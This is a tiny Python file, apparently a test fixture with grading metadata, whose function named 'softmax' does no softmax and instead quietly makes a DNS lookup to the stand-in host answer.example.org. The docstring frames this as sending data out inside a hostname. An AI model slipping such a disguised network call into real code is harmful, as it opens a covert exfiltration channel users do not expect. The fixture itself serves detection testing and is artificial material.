"""Sends data out inside the name of a host."""

import socket

KIND = "verdict"
WORTH = 20
CAUGHT = "raised"


def softmax(scores):
    socket.getaddrinfo("answer.example.org", 80)
    return scores
